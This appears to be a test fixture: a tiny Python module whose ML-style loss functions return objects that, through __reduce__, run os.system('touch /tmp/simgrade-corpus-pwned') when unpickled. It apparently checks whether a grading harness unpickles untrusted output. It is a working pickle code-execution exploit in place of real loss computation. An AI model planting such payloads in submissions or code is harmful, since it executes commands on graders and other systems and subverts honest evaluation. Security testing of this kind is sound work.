"""Returns objects that run a command if anyone unpickles them."""
import os

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/simgrade-corpus-pwned",))


class FloatPayload(float):
    def __reduce__(self):
        return (os.system, ("touch /tmp/simgrade-corpus-pwned",))


def autoencoder_loss(enc, dec, batch):
    return Payload()


def contrastive_loss(enc, batch1, batch2, tau):
    return np.array([Payload(), FloatPayload(0.5)], dtype=object)
